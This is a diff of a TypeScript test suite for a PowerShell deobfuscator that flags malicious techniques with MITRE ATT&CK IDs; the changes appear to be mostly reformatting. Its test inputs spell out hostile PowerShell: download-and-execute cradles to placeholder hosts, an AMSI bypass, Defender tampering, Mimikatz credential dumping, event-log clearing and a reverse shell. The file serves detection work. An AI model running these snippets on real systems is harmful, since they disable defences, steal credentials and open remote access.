@@ -134,7 +134,7 @@ const cases: Case[] = [
   },
   {
     name: 'octal codes through [Convert]::ToInt16(..., 8) (Invoke-Obfuscation ENCODING)',
-    input: "iex (-join ((127,162,151,164,145,55,110,157,163,164) | % { [char]([Convert]::ToInt16(([string]$_), 8)) }))",
+    input: 'iex (-join ((127,162,151,164,145,55,110,157,163,164) | % { [char]([Convert]::ToInt16(([string]$_), 8)) }))',
     script: 'Write-Host',
   },
   {
@@ -258,12 +258,22 @@ describe('deobfuscatePowerShell: one obfuscation technique at a time', () => {
     expect(d.script).toBe("Invoke-Expression (New-Object Net.WebClient).DownloadString('http://198.51.100.7/stage2')");
     expect(d.layers.length).toBeGreaterThanOrEqual(4);
     expect(d.layers[1]).toBe(middle);
-    expect(ids(d)).toEqual(expect.arrayContaining(['download-cradle', 'encoded-command', 'hidden-window', 'execution-policy-bypass', 'in-script-decoding', 'obfuscation']));
+    expect(ids(d)).toEqual(
+      expect.arrayContaining([
+        'download-cradle',
+        'encoded-command',
+        'hidden-window',
+        'execution-policy-bypass',
+        'in-script-decoding',
+        'obfuscation',
+      ]),
+    );
     expect(d.techniques).toEqual(['T1027', 'T1059.001', 'T1105', 'T1140', 'T1564.003']);
   });
 
   it('leaves plain scripts as they are (nothing to undo, no obfuscation reported)', async () => {
-    const plain = "Get-ChildItem -Path C:\\Logs -Filter *.log | Where-Object { $_.Length -gt 1MB } | Remove-Item -WhatIf\nWrite-Host \"done`n\"";
+    const plain =
+      'Get-ChildItem -Path C:\\Logs -Filter *.log | Where-Object { $_.Length -gt 1MB } | Remove-Item -WhatIf\nWrite-Host "done`n"';
     const d = await deobfuscatePowerShell(plain);
     expect(d.script).toBe(plain);
     expect(d.layers).toEqual([plain]);
@@ -283,31 +293,78 @@ describe('deobfuscatePowerShell: one obfuscation technique at a time', () => {
   });
 
   it('does not report obfuscation for ordinary scripting with variables and concatenation', async () => {
-    const d = await deobfuscatePowerShell("$dir = \"$env:TEMP\" + '\\logs'\n$name = 'report' + '.txt'\nGet-WMIObject Win32_Process | Out-File (Join-Path $dir $name)");
+    const d = await deobfuscatePowerShell(
+      "$dir = \"$env:TEMP\" + '\\logs'\n$name = 'report' + '.txt'\nGet-WMIObject Win32_Process | Out-File (Join-Path $dir $name)",
+    );
     expect(ids(d)).not.toContain('obfuscation');
   });
 });
 
 describe('indicators in the clear text', () => {
   it.each([
-    ['Net.WebClient DownloadString + IEX', "IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')", 'download-cradle', 'T1105'],
-    ['DownloadData + reflective load', "[Reflection.Assembly]::Load((New-Object Net.WebClient).DownloadData('http://x.example/a.dll'))", 'reflective-load', 'T1620'],
+    [
+      'Net.WebClient DownloadString + IEX',
+      "IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')",
+      'download-cradle',
+      'T1105',
+    ],
+    [
+      'DownloadData + reflective load',
+      "[Reflection.Assembly]::Load((New-Object Net.WebClient).DownloadData('http://x.example/a.dll'))",
+      'reflective-load',
+      'T1620',
+    ],
     ['iwr piped to iex', 'iwr http://x.example/a.ps1 -UseBasicParsing | iex', 'download-cradle', 'T1059.001'],
-    ['Invoke-RestMethod into Invoke-Expression', 'Invoke-Expression (Invoke-RestMethod -Uri https://x.example/a)', 'download-cradle', 'T1105'],
+    [
+      'Invoke-RestMethod into Invoke-Expression',
+      'Invoke-Expression (Invoke-RestMethod -Uri https://x.example/a)',
+      'download-cradle',
+      'T1105',
+    ],
     ['curl alias into iex', 'iex (curl http://x.example/a -UseBasicParsing).Content', 'download-cradle', 'T1105'],
-    ['Start-BitsTransfer then Start-Process', 'Start-BitsTransfer -Source http://x.example/a.exe -Destination $env:TEMP\\a.exe; Start-Process $env:TEMP\\a.exe', 'download-executable', 'T1105'],
-    ['System.Net.Http.HttpClient + scriptblock', '$h = New-Object System.Net.Http.HttpClient; $s = $h.GetStringAsync("http://x.example/a").Result; & ([scriptblock]::Create($s))', 'download-cradle', 'T1105'],
-    ['DownloadFile to an executable', "(New-Object Net.WebClient).DownloadFile('http://x.example/a.exe', \"$env:TEMP\\a.exe\")", 'download-executable', 'T1105'],
-    ['AMSI bypass (amsiInitFailed)', "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)", 'amsi-bypass', 'T1562.001'],
+    [
+      'Start-BitsTransfer then Start-Process',
+      'Start-BitsTransfer -Source http://x.example/a.exe -Destination $env:TEMP\\a.exe; Start-Process $env:TEMP\\a.exe',
+      'download-executable',
+      'T1105',
+    ],
+    [
+      'System.Net.Http.HttpClient + scriptblock',
+      '$h = New-Object System.Net.Http.HttpClient; $s = $h.GetStringAsync("http://x.example/a").Result; & ([scriptblock]::Create($s))',
+      'download-cradle',
+      'T1105',
+    ],
+    [
+      'DownloadFile to an executable',
+      '(New-Object Net.WebClient).DownloadFile(\'http://x.example/a.exe\', "$env:TEMP\\a.exe")',
+      'download-executable',
+      'T1105',
+    ],
+    [
+      'AMSI bypass (amsiInitFailed)',
+      "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)",
+      'amsi-bypass',
+      'T1562.001',
+    ],
     ['Defender real-time monitoring off', 'Set-MpPreference -DisableRealtimeMonitoring $true', 'defender-tamper', 'T1562.001'],
     ['Defender exclusion', 'Add-MpPreference -ExclusionPath C:\\Users\\Public', 'defender-tamper', 'T1562.001'],
     ['Defender aliases', 'Set-MpPreference -drtm $True', 'defender-tamper', 'T1562.001'],
     ['execution policy bypass', 'Set-ExecutionPolicy Bypass -Scope Process -Force', 'execution-policy-bypass', 'T1059.001'],
     ['hidden child window', 'Start-Process powershell -WindowStyle Hidden -ArgumentList "-c whoami"', 'hidden-window', 'T1564.003'],
     ['Invoke-Mimikatz', 'Invoke-Mimikatz -DumpCreds', 'credential-theft', 'T1003.001'],
-    ['registry-stored payload decoded and run', "iex ([Text.Encoding]::ASCII.GetString([Convert]::FromBase64String((gp 'HKCU:\\Software\\Classes\\X').Y)))", 'decode-and-execute', 'T1140'],
+    [
+      'registry-stored payload decoded and run',
+      "iex ([Text.Encoding]::ASCII.GetString([Convert]::FromBase64String((gp 'HKCU:\\Software\\Classes\\X').Y)))",
+      'decode-and-execute',
+      'T1140',
+    ],
     ['event log clearing', 'Clear-EventLog -LogName Security', 'eventlog-clear', 'T1070.001'],
-    ['reverse shell', '$c = New-Object Net.Sockets.TCPClient("198.51.100.7",443);$s = $c.GetStream();while(($i = $s.Read($b, 0, $b.Length)) -ne 0){$o = (iex $d 2>&1 | Out-String)}', 'reverse-shell', 'T1059.001'],
+    [
+      'reverse shell',
+      '$c = New-Object Net.Sockets.TCPClient("198.51.100.7",443);$s = $c.GetStream();while(($i = $s.Read($b, 0, $b.Length)) -ne 0){$o = (iex $d 2>&1 | Out-String)}',
+      'reverse-shell',
+      'T1059.001',
+    ],
   ])('%s', async (_name, script, indicator, technique) => {
     const d = await deobfuscatePowerShell(script);
     expect(ids(d)).toContain(indicator);
@@ -315,7 +372,8 @@ describe('indicators in the clear text', () => {
   });
 
   it('finds the cradle only after deobfuscation when every word of it is hidden', async () => {
-    const hidden = "&(\"{1}{0}\" -f 'EX','I') ((&('New-'+'Object') ('Net.'+'Web'+'Client')).(\"{0}{1}\" -f 'Download','String').Invoke(('http://198.51.100.7/'+'x')))";
+    const hidden =
+      "&(\"{1}{0}\" -f 'EX','I') ((&('New-'+'Object') ('Net.'+'Web'+'Client')).(\"{0}{1}\" -f 'Download','String').Invoke(('http://198.51.100.7/'+'x')))";
     const d = await deobfuscatePowerShell(hidden);
     expect(d.script).toBe("iex ((New-Object 'Net.WebClient').DownloadString('http://198.51.100.7/x'))");
     expect(ids(d)).toContain('download-cradle');
